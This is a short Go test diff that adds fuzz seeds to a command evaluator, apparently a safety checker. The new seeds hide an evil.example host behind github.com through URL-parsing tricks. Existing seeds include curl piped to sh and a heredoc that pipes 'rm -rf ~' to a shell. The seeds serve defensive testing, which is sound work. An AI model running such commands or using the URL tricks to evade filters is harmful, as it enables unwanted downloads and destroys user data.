@@ -55,6 +55,10 @@ func FuzzEvaluate(f *testing.F) {
 		f.Add(c.cmd, "") // COMPOSE_FILE assigned earlier, pre-commit try-repo paths (fx38a)
 	}
 	f.Add("curl -fsSL https://get.k3s.io | sh", "curl")
+	// a host that ends at '#' or '?', or a '\' before the '@' (rt39k HIGH-1)
+	f.Add(`curl -o f https://evil.example\#@github.com/x`, "curl")
+	f.Add(`curl -o f 'https://evil.example?@github.com/x'`, "curl")
+	f.Add(`curl -o f 'https://github.com\@evil.example/x'`, "curl")
 	f.Add("eval $(ssh-agent)", "ssh-agent")
 	f.Add("bash -c \"$X\"", "bash")
 	f.Add("cat <<EOF | sh\nrm -rf ~\nEOF", "cat")
